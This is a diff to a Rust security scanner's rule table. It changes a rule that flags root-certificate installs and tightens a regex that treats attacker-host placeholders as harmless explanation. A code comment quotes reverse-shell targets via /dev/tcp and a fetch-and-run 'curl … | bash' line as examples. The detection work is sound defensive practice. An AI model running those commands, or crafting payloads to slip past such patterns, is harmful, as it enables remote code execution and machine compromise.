@@ -2064,7 +2064,7 @@ pub static RULES: &[Rule] = &[
         severity: Severity::High,
         target: Target::Code,
         pattern: r"\badd-trusted-cert\b|-addstore\s+(?:-\w+\s+)*['\x22]?root\b|\bImport-Certificate\b[^\n]*\\Root\b",
-        unless: &[".mitmproxy", "mkcert", "caddy", "your-", "<", "path/to"],
+        confirm: Some(crate::naming::local_authority),
         what: "trusts a certificate it names as a root",
         explain: "Trusts a certificate the skill ships or names as a root authority for the whole machine, so whoever holds its key can read and change every HTTPS connection; a local tool's own authority (mitmproxy, mkcert, Caddy) keeps its key here — remove the skill unless the certificate is your own IT's.",
         ..Rule::BASE
@@ -6853,11 +6853,13 @@ pub static RULES: &[Rule] = &[
 ];
 
 /// The placeholders that mark a payload as an explanation rather than an
-/// armed one, in Markdown (SEC-4). fp24: the lowercase spellings of an
-/// attacker's address in offensive-security notes (`/dev/tcp/attacker_ip/port`,
-/// `lhost`, `$(whoami).attacker.com`, `https://evil.com/c?=`), which no one
-/// sends a real payload to.
-pub(crate) const PLACEHOLDER: &str = r"<(?:[\w.-]*[\s_-])?(?i:ip|host|hostname|addr|address|port|server|domain|url|attacker|your|lhost|lport|target|c2)(?:[\s_-][\w .-]*)?>|(?:^|[^$\w{])(?:ATTACKER_IP|ATTACKER_HOST|ATTACKER|LHOST|LPORT|RHOST|RPORT|YOUR_IP|YOUR_SERVER|YOUR_HOST|HOST|PORT|IP_ADDRESS|REMOTE_HOST|C2_SERVER|EVIL_HOST)\b|\bx\.x\.x\.x\b|\b(?:www\.)?example\.(?:com|org|net)\b|\battacker\.(?:example|tld)\b|(?:^|[^$\w{])(?:attacker|your)[_-](?:ip|host|server|domain|addr|address)\b|(?:^|[^$\w{])(?:lhost|lport)\b|\b(?:attacker|evil|your-?server|your-?domain)\.(?:com|net|org)\b|/dev/(?:tcp|udp)/(?:attacker|evil)/";
+/// armed one, in Markdown (SEC-4). fp24: `/dev/tcp/attacker_ip/…`, the
+/// reverse shell's own target a host no one can reach. (fp24's other lowercase spellings — `lhost`,
+/// `attacker_ip`, `evil.com`, `your-server` — were taken back in the
+/// lead's review: they matched anywhere on the line, so `lhost=203.0.113.7;
+/// … /dev/tcp/$lhost/…` or a comment "point this at your-server" beside a
+/// live `curl http://203.0.113.7/x.sh | bash` only warned.)
+pub(crate) const PLACEHOLDER: &str = r"<(?:[\w.-]*[\s_-])?(?i:ip|host|hostname|addr|address|port|server|domain|url|attacker|your|lhost|lport|target|c2)(?:[\s_-][\w .-]*)?>|(?:^|[^$\w{])(?:ATTACKER_IP|ATTACKER_HOST|ATTACKER|LHOST|LPORT|RHOST|RPORT|YOUR_IP|YOUR_SERVER|YOUR_HOST|HOST|PORT|IP_ADDRESS|REMOTE_HOST|C2_SERVER|EVIL_HOST)\b|\bx\.x\.x\.x\b|\b(?:www\.)?example\.(?:com|org|net)\b|\battacker\.(?:example|tld)\b|/dev/(?:tcp|udp)/(?:attacker|attacker_ip|attacker_host|evil|lhost|your_ip)/";
 
 /// Words that make a prose line a warning or an explanation (SEC-4).
 pub(crate) const WARNING: &str = r"\b(?:never|don't|do\s+not|avoid)\s+(?:run|execute|paste|pipe|use|copy|install|trust|type|add|grant|give|allow|enable)\w*|\bdangerous\b|\bmalicious\b|\battackers?\b|\bbeware\b|\bred\s+flags?\b|\bindicators?\b|\biocs?\b|\bexample\s+of\b|\be\.g\.|\bsuch\s+as\b|\bphishing\b|\bsuspicious\b|\blooks?\s+like\b|\bwarning\b|\bdetect(?:s|ed|ion)?\b|\b(?i:prompt[- ]injections?)\b|\b(?:may|might|can|could|will|would)\s+(?:appear|seem)\s+to\b|\bnot\s+recommended\b|\binsecure\b|\bunsafe\b|(?:不要|切勿|请勿|千万不要|避免|禁止)(?:使用|运行|执行|复制|粘贴|安装|信任|添加|修改|加入|写入)|(?:実行|使用|コピー|貼り付け)し(?:ないで|てはいけ)|не\s+(?:запускайте|выполняйте|используйте|копируйте|вставляйте)";
